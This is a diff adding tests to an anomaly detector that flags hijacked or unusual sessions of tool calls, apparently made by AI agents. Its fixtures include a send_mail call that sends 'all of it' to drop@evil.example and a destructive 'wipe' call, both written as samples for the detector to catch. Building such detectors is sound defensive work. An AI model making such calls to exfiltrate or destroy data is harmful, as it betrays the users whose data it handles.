@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import math
+
 import numpy as np
 import polars as pl
 import pyarrow as pa
@@ -20,6 +22,7 @@ from analytics.anomaly import (
     to_arrow,
     train,
 )
+from analytics.anomaly.calls import calls_of
 from analytics.anomaly.forward import forward
 from analytics.anomaly.model import learn
 from bench.detect.ablations import totals, without
@@ -76,6 +79,53 @@ def test_a_session_taken_over_is_betrayed_by_where_it_sends(model: Model) -> Non
         "send_mail on office was given an address that none of the 300 sessions it was compared with"
         in str(bad["reason"])
     )
+
+
+def test_what_opens_a_session_is_what_its_user_asks_for(model: Model) -> None:
+    """New values and new arguments count for nothing in the first call, and its tool for half.
+
+    A new address counts in the first call too: where a session goes is never a matter of course.
+    """
+    odd: list[Call] = [("export", ["one new text", "another new text"], [])]
+    usual: list[Call] = [("list_mail", [], ["person1@office.example"])]
+    sends: list[Call] = [("send_mail", ["drop@evil.example", "all of it"], [])]
+    scored = score(
+        model, frame([("first", "desk", odd), ("later", "desk", usual + odd), ("sends", "desk", sends)])
+    )
+    first, later = (
+        scored.calls.filter(pl.col("event_id").is_in(["first.0", "later.1"])).sort("event_id").to_dicts()
+    )
+    assert [first[part] for part in ("given", "whole")] == [0, 0]
+    assert later["given"] > 1
+    calls = calls_of(frame([("first", "desk", odd)]))
+    symbols, _ = model.judge(calls)
+    assert first["order"] == pytest.approx(model.memory.order.surprise(symbols)[0] / 2)
+    assert of(scored, "sends")["address"] > 1
+    assert of(scored, "sends")["given"] == 0
+
+
+def test_a_session_of_one_strange_call_stands_out(model: Model) -> None:
+    """A tool that nobody uses, or that never opened a session, is odd though no other call comes after it."""
+    wipe: list[Call] = [("wipe", ["11"], [])]
+    fetch: list[Call] = [("get_invoice", ["ORDER-000001"], [])]
+    scored = score(model, frame([("wipe", "desk", wipe), ("fetch", "desk", fetch), *history(60, seed=2)]))
+    assert of(scored, "wipe")["anomaly"] > 0.99
+    assert of(scored, "fetch")["anomaly"] > 0.95
+    assert "wipe on office was never used in history" in str(of(scored, "wipe")["reason"])
+    assert "get_invoice on office opened the session, as 0 times in 300" in str(of(scored, "fetch")["reason"])
+
+
+def test_sessions_that_go_to_new_addresses_are_odd_by_how_few_did() -> None:
+    """The rarer new addresses are in history, the more one counts, whichever tool takes it; under doubt to a bound."""
+    who = [f"guest{n}@new.example" for n in range(40)]
+    calls = [
+        ("g" + str(n), "desk", [("list_mail", [], []), ("send_mail", [w], [])]) for n, w in enumerate(who)
+    ]
+    often, seldom = (learn(frame([*history(60), *calls[:n]])) for n in (40, 1))
+    assert often.model.usual.sent == pytest.approx(41 / 101)
+    assert seldom.model.usual.sent == pytest.approx(2 / 62)
+    assert seldom.model.usual.under().sent == pytest.approx(1 / math.e**3)
+    assert often.model.usual.under() == often.model.usual
 
 
 def test_what_belongs_to_another_user_stands_out() -> None:
